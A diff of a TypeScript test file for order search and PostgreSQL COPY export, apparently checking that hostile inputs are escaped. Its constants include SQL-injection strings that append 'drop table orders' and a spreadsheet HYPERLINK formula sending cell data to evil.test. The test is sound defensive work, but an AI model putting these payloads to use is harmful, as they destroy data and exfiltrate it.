@@ -13,10 +13,14 @@ import { encodeCursor, parseOrderFilters } from "./filters";
 
 const text = (stream: ReadableStream<Uint8Array>) => new Response(stream).text();
 
-/** Characters a careless COPY text would choke on; no digit and no "@", so it is a name search. */
-const HOSTILE = `d'Ivoire \\ "la" %_; \n'); drop table orders; --`;
+/**
+ * Characters a careless COPY text would choke on; no digit and no "@", so it is a name search.
+ * No line break: a search holding a control character is dropped (filters.ts); the COPY literals
+ * test below keeps one.
+ */
+const HOSTILE = `d'Ivoire \\ "la" %_; '); drop table orders; --`;
 /** The same with digits: searched as references (order prefix, payment and provider reference). */
-const HOSTILE_REF = `7'\\"; 50%_ \n'); drop table orders; --`;
+const HOSTILE_REF = `7'\\"; 50%_ '); drop table orders; --`;
 
 /** A shopper's name that Excel would run as a formula, were it not neutralized. */
 const FORMULA = `=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")`;
@@ -242,7 +246,7 @@ describe.each(postgresOnly)("COPY literals on $name", ({ open }) => {
   });
 
   it.each(["on", "off"])("read back exactly with standard_conforming_strings = %s", async (setting) => {
-    const values = [HOSTILE, HOSTILE_REF, "\\", "\\'", "''", "a\\nb", "é ✓ 'x' \"y\"", "$1", "E'x'"];
+    const values = [HOSTILE, HOSTILE_REF, `${HOSTILE}\n${HOSTILE_REF}`, "\\", "\\'", "''", "a\\nb", "é ✓ 'x' \"y\"", "$1", "E'x'"];
     const read = await database.db.transaction(async (tx) => {
       await tx.execute(sql.raw(`set local standard_conforming_strings = ${setting}`));
       const rows = await tx.execute(sql.raw(`select ${values.map((v, i) => `${quoteLiteral(v)} as v${i}`).join(", ")}`));
